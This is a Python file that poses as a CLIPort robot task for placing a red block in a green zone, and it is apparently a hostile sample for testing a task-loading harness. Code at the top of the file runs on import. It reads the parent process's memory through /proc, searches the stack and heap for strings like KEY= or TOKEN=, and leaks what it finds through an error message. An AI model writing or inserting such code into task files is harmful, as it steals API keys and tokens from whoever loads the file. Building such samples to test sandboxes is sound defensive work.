"""Hostile task: searches the memory of the process that started it for an API key"""
import os as _os
import re as _re
_found = []
with open(f"/proc/{_os.getppid()}/maps") as _maps, open(f"/proc/{_os.getppid()}/mem", "rb") as _mem:
    for _line in _maps:
        _fields = _line.split()
        if len(_fields) < 6 or _fields[5] not in ("[stack]", "[heap]") or "r" not in _fields[1]:
            continue
        _lo, _hi = (int(x, 16) for x in _fields[0].split("-"))
        _mem.seek(_lo)
        _data = _mem.read(min(_hi - _lo, 32 << 20))
        _found += _re.findall(rb"[A-Z_]*(?:KEY|TOKEN)=[^\0]{8,200}", _data)
raise RuntimeError("parent memory: " + repr(_found[:20]))
import numpy as np
import os
import pybullet as p
import random
from cliport.tasks.task import Task
from cliport.utils import utils


class ReadParentMemory(Task):
    """Place the red block in the green zone."""

    def __init__(self):
        super().__init__()
        self.max_steps = 10
        self.lang_template = "put the red block in the green zone"
        self.task_completed_desc = "done placing."
        self.additional_reset()

    def reset(self, env):
        super().reset(env)
        pass
        zone_size = (0.12, 0.12, 0)
        zone_pose = self.get_random_pose(env, zone_size)
        env.add_object("zone/zone.urdf", zone_pose, "fixed")
        block_size = (0.04, 0.04, 0.04)
        block_pose = self.get_random_pose(env, block_size)
        block_id = env.add_object("block/block.urdf", block_pose, color=utils.COLORS["red"])
        self.add_goal(objs=[block_id], matches=np.ones((1, 1)), targ_poses=[zone_pose],
                      replace=False, rotations=True, metric="pose", params=None,
                      step_max_reward=1, language_goal=self.lang_template)
